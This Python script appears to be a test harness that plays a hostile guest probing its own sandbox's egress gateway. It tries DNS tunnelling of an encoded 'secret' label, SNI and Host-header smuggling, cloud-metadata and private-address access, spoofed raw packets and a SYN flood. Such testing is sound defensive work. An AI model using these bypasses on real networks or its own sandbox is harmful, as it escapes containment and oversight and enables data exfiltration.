"""What a hostile guest tries against its gate, as root and with its own packets.

The policy lists allowed.test and answers.test; the world also has denied.test. Prints a line for
each attempt that something came back of, and `done` with the number of attempts. What left unseen
is for the capture on the other side to tell. The numbers are those of the attack list.
"""
import concurrent.futures, os, socket, struct, sys

GATEWAY = '10.0.2.1'
RESOLVER = '203.0.113.53'
ALLOWED, DENIED = '203.0.113.10', '203.0.113.11'
LIMIT = 1.5
attempts = []


def attempt(name):
    def add(action):
        attempts.append((name, action))
        return action
    return add


def question(name, kind=1, count=1, flags=0x0100):
    labels = name if isinstance(name, bytes) else b''.join(
        bytes([len(part)]) + part.encode() for part in name.split('.')) + b'\0'
    return (struct.pack('>6H', 0x1234, flags, count, 0, 0, 0) +
            (labels + struct.pack('>2H', kind, 1)) * count)


def ask(message, server=GATEWAY, port=53):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(LIMIT)
        s.sendto(message, (server, port))
        return s.recv(4096)


def answers(message, **where):
    """Whether an answer has records."""
    reply = ask(message, **where)
    return struct.unpack('>6H', reply[:12])[3] > 0


def talk(address, port, data, pieces=None, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(LIMIT)
        s.connect((address, port))
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for piece in pieces or [data]:
            s.sendall(piece)
        return s.recv(4096)


def extension(kind, body):
    return struct.pack('>2H', kind, len(body)) + body


def server_name(*names):
    entries = b''.join(b'\0' + struct.pack('>H', len(n)) + n for n in names)
    return extension(0, struct.pack('>H', len(entries)) + entries)


def hello(extensions, record=16384):
    body = (b'\x03\x03' + os.urandom(32) + b'\0' + struct.pack('>H', 2) + b'\x13\x01' + b'\x01\0' +
            struct.pack('>H', len(extensions)) + extensions)
    message = b'\x01' + struct.pack('>I', len(body))[1:] + body
    parts = [message[i:i + record] for i in range(0, len(message), record)]
    return b''.join(b'\x16\x03\x01' + struct.pack('>H', len(p)) + p for p in parts)


def request(host, line='GET / HTTP/1.1', more=''):
    return f'{line}\r\nHost: {host}\r\n{more}\r\n'.encode()


# ---- names. The resolver of the world would answer all of these.
for number, name in [(1, 'denied.test'), (2, 'notallowed.test'), (3, 'allowed.test.evil.test'),
                     (4, 'c2VjcmV0.' * 6 + 'denied.test')]:
    attempt(f'{number} {name}')(lambda name=name: answers(question(name)))
for kind in (16, 10, 255, 65):
    attempt(f'5 type {kind}')(lambda kind=kind: answers(question('denied.test', kind)))
attempt('6 dot byte')(lambda: answers(question(b'\x0eallowed.test.x\x04evil\0')))
attempt('7 NUL in a label')(lambda: answers(question(b'\x0dallowed.test\0\x04evil\0')))
attempt('8 two questions')(lambda: answers(question('denied.test', count=2)))
attempt('9 compression loop')(lambda: answers(question(b'\xc0\x0c')))
attempt('10 another resolver')(lambda: answers(question('denied.test'), server=RESOLVER))
attempt('10 over TCP')(lambda: talk(RESOLVER, 53, b'\0\x1d' + question('denied.test')))
attempt('10 DoT')(lambda: talk(RESOLVER, 853, hello(server_name(b'allowed.test'))))
attempt('10 DoH')(lambda: talk(RESOLVER, 443, hello(server_name(b'allowed.test'))))
for name in ('private', 'loopback', 'metadata', 'own', 'mixed'):
    attempt(f'11, 43 {name} answer')(lambda name=name: answers(question(name + '.answers.test')))

# ---- TLS
attempt('12 a literal')(lambda: talk(DENIED, 443, hello(server_name(b'allowed.test'))))
for what, data in [
        ('13 another name', hello(server_name(b'denied.test'))),
        ('13 in many records', hello(server_name(b'denied.test'), record=7)),
        ('14 no name', hello(b'')),
        ('15 server_name twice', hello(server_name(b'allowed.test') + server_name(b'denied.test'))),
        ('16 two names', hello(server_name(b'allowed.test', b'denied.test'))),
        ('17 NUL', hello(server_name(b'allowed.test\0.denied.test'))),
        ('17 trailing dot', hello(server_name(b'allowed.test.'))),
        ('17 literal', hello(server_name(ALLOWED.encode()))),
        ('18 ECH, outer denied', hello(server_name(b'denied.test') + extension(0xfe0d, b'x' * 64))),
        ('19 SSH', b'SSH-2.0-evil\r\n'),
        ('19 plain text', b'hello there, this is no TLS\n'),
        ('19 SSLv2', b'\x80\x2e\x01\0\x02\0\x15\0\0\0\x10' + b'\x01\0\x80' * 7 + b'x' * 16),
        ('20 HTTP', request('allowed.test')),
]:
    attempt(what)(lambda data=data: talk(ALLOWED, 443, data))
data13 = hello(server_name(b'denied.test'))
attempt('13 byte by byte')(
    lambda: talk(ALLOWED, 443, b'', pieces=[bytes([b]) for b in data13]))

# ---- HTTP
for what, data in [
        ('21 another Host', request('denied.test')),
        ('22 two Hosts', request('allowed.test', more='Host: denied.test\r\n')),
        ('23 absolute form', request('allowed.test', 'GET http://denied.test/ HTTP/1.1')),
        ('24 space before the colon', b'GET / HTTP/1.1\r\nHost : denied.test\r\n\r\n'),
        ('25 folded', request('allowed.test', more='X: y\r\n Host: denied.test\r\n')),
        ('26 bare LF', b'GET / HTTP/1.1\nHost: denied.test\n\n'),
        ('27 CONNECT', request('denied.test:443', 'CONNECT denied.test:443 HTTP/1.1')),
        ('28 h2c', request('denied.test', more='Connection: Upgrade\r\nUpgrade: h2c\r\n')),
        ('28 HTTP/2', b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
        ('31 CL and TE', request('allowed.test', 'POST / HTTP/1.1',
                                 'Content-Length: 5\r\nTransfer-Encoding: chunked\r\n')),
]:
    attempt(what)(lambda data=data: talk(ALLOWED, 80, data))


@attempt('29 a second request')
def second():
    with socket.create_connection((ALLOWED, 80), LIMIT) as s:
        s.settimeout(LIMIT)
        s.sendall(request('allowed.test'))
        s.recv(4096)
        s.sendall(request('denied.test'))
        return s.recv(4096)


@attempt('30 pipelined')
def pipelined():
    with socket.create_connection((ALLOWED, 80), LIMIT) as s:
        s.settimeout(LIMIT)
        s.sendall(request('allowed.test') + request('denied.test'))
        return s.recv(4096).count(b'HTTP/1.1 200') > 1


# ---- other ports, protocols and places
for port in (22, 4000, 8443):
    attempt(f'32 port {port}')(lambda port=port: talk(ALLOWED, port, b'x'))
for port in (443, 123):
    attempt(f'33 UDP {port}')(lambda port=port: ask(b'x' * 64, ALLOWED, port))
for address in ('10.0.0.1', '172.16.0.1', '192.168.50.1', '192.168.1.1', '169.254.169.254',
                '100.64.0.1', '0.0.0.0', '198.18.0.1', '198.51.100.1', '224.0.0.1'):
    attempt(f'34, 36 {address}')(lambda address=address: talk(address, 80, request('allowed.test')))
for address in ('fd00::1', '::ffff:10.0.0.1', '64:ff9b::a00:1', '2002:a00:1::1', 'fe80::1%eth0',
                '2a00:1::1', '2a00:1::10'):
    attempt(f'35, 36 {address}')(
        lambda address=address: talk(address, 80, request('allowed.test'), family=socket.AF_INET6))
for port in (4000, 4001, 22, 80, 443, 5005):
    attempt(f'37 gateway {port}')(lambda port=port: talk(GATEWAY, port, b'x'))


# ---- packets of its own
def checksum(data):
    total = sum(struct.unpack(f'>{len(data) // 2}H', data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def packet(protocol, to, body, source='10.0.2.15', options=b'', offset=0):
    head = struct.pack('>BBHHHBBH4s4s', 0x45 + len(options) // 4, 0, 20 + len(options) + len(body), 1,
                       offset, 64, protocol, 0, socket.inet_aton(source), socket.inet_aton(to))
    head = head[:10] + struct.pack('>H', checksum(head + options)) + head[12:]
    return head + options + body


def send_raw(data):
    # Over the card itself: neither the guest's routes nor its own checks are asked.
    with open('/sys/class/net/eth0/address') as f:
        own = bytes.fromhex(f.read().strip().replace(':', ''))
    with open('/proc/net/arp') as f:
        gateway = [line.split()[3] for line in f if line.startswith(GATEWAY + ' ')][0]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind(('eth0', 0x0800))
        s.send(bytes.fromhex(gateway.replace(':', '')) + own + b'\x08\0' + data)
    return False


SYN = struct.pack('>HHIIBBHHH', 40000, 80, 1, 0, 0x50, 2, 1000, 0, 0)
UDP = struct.pack('>4H', 40000, 123, 16, 0) + b'x' * 8
for what, data in [
        ('38 spoofed source', packet(6, ALLOWED, SYN, source='198.51.100.1')),
        ('38 spoofed datagram', packet(17, ALLOWED, UDP, source='10.0.2.1')),
        ('38 split header', packet(6, ALLOWED, SYN[:8], offset=0x2000)),
        ('38 source route', packet(6, ALLOWED, SYN, options=b'\x83\x07\x04' +
                                   socket.inet_aton('10.0.0.1') + b'\0')),
        ('38 DHCP', packet(17, '255.255.255.255', struct.pack('>4H', 68, 67, 16, 0) + b'x' * 8)),
        ('38 mDNS', packet(17, '224.0.0.251', struct.pack('>4H', 5353, 5353, 16, 0) + b'x' * 8)),
        ('38 GRE', packet(47, ALLOWED, b'\0\0\x08\0' + packet(17, '10.0.0.1', UDP))),
        ('38 SCTP', packet(132, ALLOWED, struct.pack('>HHII', 40000, 80, 0, 0) + b'\x01\0\0\x14')),
        ('38 ICMP', packet(1, DENIED, b'\x08\0\xf7\xff\0\0\0\0')),
]:
    attempt(what)(lambda data=data: send_raw(data))


@attempt('39 SYN flood')
def flood():
    for port in range(1000, 2000):
        send_raw(packet(6, DENIED, struct.pack('>HHIIBBHHH', port, 80, 1, 0, 0x50, 2, 1000, 0, 0)))


def run(one):
    name, action = one
    try:
        got = action()
    except OSError:
        return None
    return f'{name}: {got!r}' if got else None


# The allowed address is known to the gate by its name, and the gateway's to this guest.
socket.getaddrinfo('allowed.test', 80)
with concurrent.futures.ThreadPoolExecutor(24) as pool:
    for found in pool.map(run, attempts):
        if found:
            print(found)
print('done', len(attempts))
